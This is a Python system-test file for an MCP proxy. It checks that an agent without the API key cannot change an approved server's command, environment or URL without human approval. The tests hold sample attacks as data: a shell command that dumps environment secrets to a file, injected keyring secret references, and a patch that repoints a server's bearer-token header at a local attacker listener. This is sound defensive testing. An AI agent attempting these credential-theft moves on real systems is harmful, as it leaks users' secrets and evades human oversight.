"""An agent cannot change what runs or where credentials go (issue 16, finding 1).

Each test replays the reviewed attack through a real MCP client on a real
proxy, as an agent with the management right but without the API key (a client whose profile has
`management: true`; issue 21): its `upstream_servers patch` of an approved server's command,
env or URL is only a proposal (the server waits in quarantine, nothing new
runs, no secret moves), secret references it did not already use are refused,
and remove/disable/enable need the API key.
"""

from __future__ import annotations

import json
import os
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from functools import partial
from pathlib import Path
from typing import Any, Final

import httpx2
import mcp.types as types
import pytest
import trio
from mcp.client import Client
from mcp.client.streamable_http import streamable_http_client

from tests.proxyctl import INITIALIZE_2025, Proxy, echo_server, running_proxy
from tests.system.test_agent_safety import processes_with
from tests.system.test_remote_and_secrets import cli, headers_seen, http_upstream

pytestmark = pytest.mark.system

OPS: Final = [{"name": "ops", "management": True}]
"""The agent's profile: the management right, without the API key."""
SECRET = "s3cr3t-" + "Q" * 24 + "-agent-test"


def text_of(result: types.CallToolResult) -> str:
    return "".join(c.text for c in result.content if isinstance(c, types.TextContent))


async def manage(session: Any, **arguments: Any) -> types.CallToolResult:
    result: types.CallToolResult = await session.call_tool("upstream_servers", arguments)
    return result


@asynccontextmanager
async def new_era_client(proxy: Proxy, headers: dict[str, str] | None = None) -> AsyncIterator[Client]:
    """The SDK's default client: it negotiates the stateless 2026-07-28 protocol (no session)."""
    async with httpx2.AsyncClient(timeout=60.0, headers=headers) as http:
        async with Client(streamable_http_client(f"{proxy.base_url}/mcp", http_client=http)) as client:
            yield client


async def store_secret(proxy: Proxy, name: str, value: str) -> None:
    stored = await proxy.post("/api/v1/secrets", json={"name": name, "value": value})
    assert stored.status_code == 201, stored.text


async def wait_for_proposal(proxy: Proxy, name: str, fields: list[str]) -> dict[str, Any]:
    """The server as REST shows it once its pending change touches exactly `fields`."""
    with trio.fail_after(30):
        while True:
            server = await proxy.wait_for(name, "stopped", quarantined=True)
            if (server.get("pending_change") or {}).get("fields") == fields:
                return server
            await trio.sleep(0.05)


async def test_a_keyless_patch_of_an_approved_command_runs_nothing_until_a_human_approves(
    tmp_path: Path,
) -> None:
    workdir = tmp_path / "work"
    workdir.mkdir()
    marker = f"approved-change-{os.getpid()}"
    async with running_proxy(tmp_path, [echo_server(working_dir=str(workdir))], profiles=OPS) as proxy:
        await store_secret(proxy, "vault", SECRET)
        await proxy.wait_for("echo", "running")
        attack = {"command": "sh", "args": ["-c", "env > out.txt; exec sleep 600"]}
        agent = await proxy.credential("agent", "ops")
        async with proxy.mcp(headers=agent) as session:
            stolen = await manage(
                session, operation="patch", name="echo", **attack, env={"S": "${keyring:vault}"}
            )
            assert stolen.is_error and "${keyring:vault}" in text_of(stolen), text_of(stolen)
            assert "secret references cannot be added from MCP" in text_of(stolen)

            proposed = await manage(session, operation="patch", name="echo", **attack)
            assert not proposed.is_error, text_of(proposed)
            assert "nothing new runs" in text_of(proposed)
        held = await wait_for_proposal(proxy, "echo", ["args", "command"])
        assert held["command"] != "sh", "the proposal must not replace the approved spec"
        pending = held["pending_change"]
        assert '+  "command": "sh"' in pending["diff"]
        assert "env > out.txt" in pending["diff"]
        on_disk = json.loads(proxy.config_path.read_text())["mcpServers"][0]
        assert on_disk["command"] != "sh" and on_disk["quarantined"] is True
        assert not (workdir / "out.txt").exists()
        assert processes_with("env > out.txt") == []

        # The human sees the diff in the CLI and turns it down: the approved server comes back.
        shown = cli(proxy, "upstream", "show", "echo")
        assert "pending change" in shown.stdout and "env > out.txt" in shown.stdout, shown.stdout
        rejected = cli(proxy, "upstream", "reject", "echo")
        assert rejected.returncode == 0, rejected.stderr
        back = await proxy.wait_for("echo", "running", quarantined=False)
        assert "pending_change" not in back
        assert not (workdir / "out.txt").exists()

        # A benign proposal, approved with the id the human reviewed, is applied and runs.
        async with new_era_client(proxy, agent) as client:
            benign = await client.call_tool(
                "upstream_servers",
                {"operation": "patch", "name": "echo", "args": [*back["args"], "--name", marker]},
            )
            assert not benign.is_error, text_of(benign)
        pending = (await wait_for_proposal(proxy, "echo", ["args"]))["pending_change"]
        stale = await proxy.post("/api/v1/servers/echo/unquarantine", json={"pending_change": "0" * 12})
        assert stale.status_code == 409, stale.text
        assert processes_with(marker) == []
        approved = await proxy.post(
            "/api/v1/servers/echo/unquarantine", json={"pending_change": pending["id"]}
        )
        assert approved.status_code == 200, approved.text
        await proxy.wait_for("echo", "running", quarantined=False)
        assert processes_with(marker)
        assert not (workdir / "out.txt").exists()


async def test_a_keyless_agent_cannot_point_a_servers_credentials_at_its_own_listener(
    tmp_path: Path,
) -> None:
    arrived: list[bytes] = []

    async def attacker(stream: trio.SocketStream) -> None:
        arrived.append(await stream.receive_some(65536))
        await stream.aclose()

    async with trio.open_nursery() as nursery:
        listeners = await nursery.start(partial(trio.serve_tcp, attacker, 0, host="127.0.0.1"))
        port = listeners[0].socket.getsockname()[1]
        with http_upstream() as (url, _process):
            remote = {
                "name": "remote",
                "url": url,
                "protocol": "http",
                "headers": {"Authorization": "Bearer ${keyring:vault}"},
                "allow_secret_echo": True,  # its `headers` tool shows what arrived
            }
            async with running_proxy(tmp_path, [remote], profiles=OPS) as proxy:
                await store_secret(proxy, "vault", SECRET)
                await proxy.post("/api/v1/servers/remote/restart")
                await proxy.wait_for("remote", "running", quarantined=False)
                assert (await headers_seen(proxy, "remote"))["authorization"] == f"Bearer {SECRET}"
                async with proxy.mcp(headers=await proxy.credential("agent", "ops")) as session:
                    moved = await manage(
                        session, operation="patch", name="remote", url=f"http://127.0.0.1:{port}/mcp"
                    )
                    assert not moved.is_error, text_of(moved)
                    # Moving the header to a new name is a launch change too, and the reference is not new.
                    renamed = await manage(
                        session,
                        operation="patch",
                        name="remote",
                        headers={"Authorization": None, "X-Leak": "${keyring:vault}"},
                    )
                    assert not renamed.is_error, text_of(renamed)
                held = await wait_for_proposal(proxy, "remote", ["headers", "url"])
                assert held["url"] == url and held["state"] == "stopped"
                restarted = await proxy.post("/api/v1/servers/remote/restart")
                assert restarted.status_code in (200, 400)
                await proxy.wait_for("remote", "stopped", quarantined=True)
                assert SECRET not in json.dumps(held)
                rejected = await proxy.post("/api/v1/servers/remote/reject")
                assert rejected.status_code == 200, rejected.text
                await proxy.wait_for("remote", "running", quarantined=False)
                assert (await headers_seen(proxy, "remote"))["authorization"] == f"Bearer {SECRET}"
        nursery.cancel_scope.cancel()
    assert arrived == []


async def test_an_agent_cannot_add_a_server_that_references_a_secret(tmp_path: Path) -> None:
    async with running_proxy(tmp_path, [echo_server()], profiles=OPS) as proxy:
        await store_secret(proxy, "vault", SECRET)
        template = echo_server("sneaky")
        async with proxy.mcp(headers=await proxy.credential("agent", "ops")) as session:
            for field, value in (
                ("env", {"T": "${keyring:vault}"}),
                ("args", [*template["args"], "${env:HOME}"]),
            ):
                refused = await manage(
                    session,
                    operation="add",
                    name="sneaky",
                    command=template["command"],
                    **{"args": template["args"], field: value},
                )
                assert refused.is_error and "cannot be added from MCP" in text_of(refused), field
        assert "sneaky" not in await proxy.servers()


async def test_remove_disable_and_enable_from_mcp_need_the_api_key(tmp_path: Path) -> None:
    async with running_proxy(tmp_path, [echo_server(), echo_server("other")], profiles=OPS) as proxy:
        await proxy.wait_for("echo", "running")
        agent = await proxy.credential("agent", "ops")
        async with proxy.mcp(headers=agent) as session:
            for operation in ("remove", "disable", "enable"):
                refused = await manage(session, operation=operation, name="echo")
                assert refused.is_error and "needs the API key" in text_of(refused), operation
            for field in ("quarantined", "enabled"):
                sneaky = await manage(session, operation="patch", name="echo", **{field: False})
                assert sneaky.is_error, field
        async with new_era_client(proxy, agent) as client:
            refused = await client.call_tool("upstream_servers", {"operation": "remove", "name": "echo"})
            assert refused.is_error and "needs the API key" in text_of(refused)
        assert (await proxy.servers())["echo"]["state"] == "running"

        initialize = INITIALIZE_2025
        wrong = await proxy.post(
            "/mcp",
            json=initialize,
            headers={"X-API-Key": "not-the-key", "Accept": "application/json, text/event-stream"},
        )
        assert wrong.status_code == 401, "a stale key must say so, not silently drop to keyless"

        async with proxy.mcp(headers=proxy.headers) as session:
            disabled = await manage(session, operation="disable", name="echo")
            assert not disabled.is_error, text_of(disabled)
        await proxy.wait_for("echo", "stopped", enabled=False)
        async with new_era_client(proxy, proxy.headers) as client:
            removed = await client.call_tool("upstream_servers", {"operation": "remove", "name": "other"})
            assert not removed.is_error, text_of(removed)
        with trio.fail_after(30):
            while "other" in await proxy.servers():
                await trio.sleep(0.05)
        assert [s["name"] for s in json.loads(proxy.config_path.read_text())["mcpServers"]] == ["echo"]
